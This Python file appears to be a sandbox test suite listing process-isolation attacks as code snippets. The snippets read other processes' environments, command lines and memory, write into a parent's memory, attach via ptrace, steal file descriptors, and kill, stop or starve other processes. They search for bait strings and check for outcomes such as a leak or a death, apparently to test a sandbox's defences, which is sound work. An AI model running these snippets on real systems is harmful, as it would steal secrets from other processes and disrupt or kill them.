"""Attacks on other processes: their secrets, their memory, their lives."""

from attacks.model import Attack

PIDS = """
import ctypes, os, re, signal, sys, time
libc = ctypes.CDLL(None, use_errno=True)
try:
    others = {int(name) for name in os.listdir("/proc") if name.isdigit()}
except OSError:
    others = set(range(1, 100))
others = sorted((others | {os.getppid()}) - {0, os.getpid()})
def regions(pid):
    for line in open(f"/proc/{pid}/maps"):
        span, rights, *_ = line.split()
        start, end = (int(text, 16) for text in span.split("-"))
        if rights.startswith("rw") and end - start <= 32 << 20:
            yield start, end - start
"""

READ_MEMORY = (
    PIDS
    + """
SECRET = re.compile(rb"BAIT-[a-z]+-[0-9a-f]{16}")
def pages():
    # The pages of this process, without /proc: the kernel says of an address whether it can be read.
    libc.sbrk.restype = ctypes.c_void_p
    reading, writing = os.pipe()
    near = [id(pages), id(object()), id(os.environ), libc.sbrk(0), ctypes.addressof(ctypes.c_int(0))]
    near += [ctypes.c_void_p.in_dll(libc, "environ").value, ctypes.addressof(ctypes.create_string_buffer(1 << 20))]
    for chunk in sorted({address >> 25 for address in near}):
        for address in range(chunk << 25, chunk + 1 << 25, 4096):
            if libc.write(writing, ctypes.c_void_p(address), 4096) == 4096:
                yield os.read(reading, 4096)
def secrets(pid):
    found = set()
    try:
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
        spans = list(regions(pid))
    except OSError:
        if pid != "self":
            raise
        for page in pages():
            found.update(SECRET.findall(page))
        return found
    for start, size in spans:
        try:
            memory.seek(start)
            found.update(SECRET.findall(memory.read(size)))
        except OSError:
            pass
    return found
"""
)

ATTACKS = (
    Attack("own_environment", "prints its environment", "import os; print(dict(os.environ))", "leaked env"),
    Attack(
        "environment_of_parent",
        "reads the environment of its parent and of every other process",
        PIDS
        + """
for pid in others:
    try:
        print(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass
""",
        "leaked env",
    ),
    Attack("environment_of_init", "reads /proc/1/environ", 'print(open("/proc/1/environ").read())', "leaked init"),
    Attack(
        "arguments_of_others",
        "reads the command lines of other processes",
        PIDS
        + """
for pid in others:
    try:
        print(open(f"/proc/{pid}/cmdline").read())
    except OSError:
        pass
""",
        "leaked argv",
    ),
    Attack(
        "memory_of_parent",
        "reads the memory of its parent and of every other process",
        READ_MEMORY
        + """
for pid in others:
    try:
        print(secrets(pid))
    except OSError:
        pass
""",
        "leaked memory",
        options={"timeout": 2.0, "wall": 4.0},
    ),
    Attack(
        "memory_of_parent_by_call",
        "reads the same by process_vm_readv",
        PIDS
        + """
import uuid
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(32 << 20)
for pid in others:
    try:
        spans = list(regions(pid))
    except OSError:
        spans = [(address, 1 << 20) for address in range(0x400000, 0x4000000, 1 << 20)]
    for start, size in spans:
        ours, theirs = Span(ctypes.addressof(buffer), size), Span(start, size)
        read = libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        if read > 0:
            print(re.findall(rb"BAIT-[a-z]+-[0-9a-f]{16}", ctypes.string_at(buffer, read)))
""",
        "leaked memory",
        options={"timeout": 2.0, "wall": 4.0},
    ),
    Attack(
        "own_memory",
        "searches its own memory for what its parent knew before it forked",
        READ_MEMORY + 'print(secrets("self"))',
        "leaked memory",
        runner="forked",
        options={"timeout": 2.0, "wall": 4.0},
    ),
    Attack(
        "write_memory_of_parent",
        "writes to the memory of its parent",
        PIDS
        + """
for pid in others:
    try:
        memory = open(f"/proc/{pid}/mem", "r+b", buffering=0)
        for start, size in regions(pid):
            memory.seek(start)
            held = memory.read(size)
            for found in re.finditer(rb"BAIT-memory-[0-9a-f]{16}", held):
                memory.seek(start + found.start())
                memory.write(b"gem-breach")
    except OSError:
        pass
""",
        "overwrote",
        options={"timeout": 2.0, "wall": 4.0},
    ),
    Attack(
        "ptrace_parent",
        "attaches itself to its parent as a debugger",
        PIDS
        + """
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
for pid in others:
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        os.waitpid(pid, 0x40000000)
        libc.ptrace(PTRACE_DETACH, pid, 0, 0)
        print("BREACH")
        break
""",
        "printed BREACH",
    ),
    Attack(
        "descriptor_of_parent",
        "takes descriptors out of its parent by pidfd_getfd",
        PIDS
        + """
for pid in others:
    held = libc.syscall(434, pid, 0)
    for number in range(3, 40):
        taken = libc.syscall(438, held, number, 0)
        if taken >= 0:
            try:
                print(os.pread(taken, 4096, 0))
            except OSError:
                pass
""",
        "leaked open",
    ),
    Attack(
        "write_parents_files",
        "writes to what other processes have open",
        PIDS
        + """
for pid in others:
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{number}"
            if "memfd:log" in os.readlink(path):
                open(path, "w").write("gem-breach")
    except OSError:
        pass
""",
        "logged",
    ),
    Attack("kill_parent", "kills its parent", "import os, time; os.kill(os.getppid(), 9); time.sleep(0.2)", "died"),
    Attack("kill_all", "kills every process it may", "import os; os.kill(-1, 9)", "died"),
    Attack("kill_group", "kills the group of processes it is in", "import os; os.kill(0, 9)", "died"),
    Attack(
        "kill_one_by_one",
        "kills all processes with ids below 500 except its own relatives",
        """
import os
for pid in {*range(2, 500)} - {os.getpid(), os.getppid()}:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
""",
        "died",
    ),
    Attack(
        "kill_by_thread",
        "kills its parent by tkill",
        """
import ctypes, os, time
ctypes.CDLL(None).syscall(200, os.getppid(), 9)
time.sleep(0.2)
""",
        "died",
    ),
    Attack(
        "kill_by_handle",
        "kills its parent by pidfd_send_signal",
        """
import os, signal, time
signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9)
time.sleep(0.2)
""",
        "died",
    ),
    Attack(
        "signals_to_parent",
        "sends its parent every signal but the surest",
        """
import os, signal, time
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU}:
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
time.sleep(0.2)
""",
        "died",
    ),
    Attack(
        "stop_parent",
        "stops its parent, so that it is never waited for",
        "import os, time; os.kill(os.getppid(), 19); time.sleep(0.2)",
        "died",
    ),
    Attack(
        "slow_parent",
        "lowers the priority of every other process",
        PIDS
        + """
for pid in others:
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError:
        pass
""",
        "tampered",
    ),
    Attack(
        "pin_parent",
        "puts every other process on one processor",
        PIDS
        + """
for pid in others:
    try:
        os.sched_setaffinity(pid, {max(os.sched_getaffinity(pid))})
    except OSError:
        pass
""",
        "tampered",
    ),
    Attack(
        "limit_parent",
        "sets limits for every other process",
        PIDS
        + """
import resource
for pid in others:
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, (50, 4096))
    except OSError:
        pass
""",
        "tampered",
    ),
    Attack(
        "sacrifice_parent",
        "offers every other process to the kernel's out-of-memory killer",
        PIDS
        + """
for pid in others:
    try:
        open(f"/proc/{pid}/oom_score_adj", "w").write("1000")
    except OSError:
        pass
""",
        "tampered",
    ),
)
